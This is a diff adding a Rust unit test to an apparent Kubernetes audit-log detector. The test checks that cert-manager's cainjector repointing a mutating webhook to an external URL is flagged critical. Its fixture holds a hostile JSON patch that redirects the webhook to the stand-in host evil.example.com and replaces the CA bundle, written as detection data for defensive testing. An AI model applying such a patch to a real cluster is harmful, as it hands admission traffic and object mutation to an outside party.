@@ -1065,6 +1065,50 @@ fn admission_webhook_configuration_change_is_high_and_an_external_url_critical()
     Ok(())
 }
 
+/// cert-manager's cainjector token repointing a webhook outside the
+/// cluster with a JSON patch (it normally patches only `caBundle`): critical,
+/// naming the URL, whether the audit policy logs the object after the patch
+/// (`RequestResponse`) or only the patch (`Request`).
+#[test]
+fn cainjector_repointing_a_webhook_to_an_external_url_is_critical() -> Result<()> {
+    let uri =
+        "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/cert-manager-webhook";
+    let patch = json!([
+        {"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://evil.example.com/"},
+        {"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": "LS0tLS1CRUdJTg=="}
+    ]);
+    let after = json!({"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
+        "metadata": {"name": "cert-manager-webhook", "resourceVersion": "5120"},
+        "webhooks": [{"name": "webhook.cert-manager.io", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+            "clientConfig": {"url": "https://evil.example.com/", "caBundle": "LS0tLS1CRUdJTg=="}}]});
+    let by_cainjector = |e: Ev| {
+        e.by_sa(
+            "cert-manager",
+            "cert-manager-cainjector",
+            "cert-manager-cainjector-5f7d-q2",
+        )
+        .ua("cert-manager-cainjector/v1.16.1 (linux/amd64) cert-manager/2a2c8ac2e2cc")
+    };
+    let request_only = by_cainjector(Ev::new("patch", uri).body(patch.clone()));
+    let with_object = by_cainjector(Ev::new("patch", uri).bodies(patch, after));
+    for (e, path) in [
+        (request_only, "webhooks[0].clientConfig.url"),
+        (
+            with_object,
+            "webhooks[name=webhook.cert-manager.io].clientConfig.url",
+        ),
+    ] {
+        let f = single_finding(&config(""), e, "out_of_band_change", "critical")?;
+        assert_eq!(
+            f["risks"],
+            json!([{"rule": "webhook_external_url", "path": path,
+                "value": "https://evil.example.com/", "severity": "critical"}]),
+            "{f:#}"
+        );
+    }
+    Ok(())
+}
+
 #[test]
 fn pipeline_findings_are_critical_even_on_low_severity_objects() -> Result<()> {
     // A custom resource is low on its own; the pipeline types lift it.
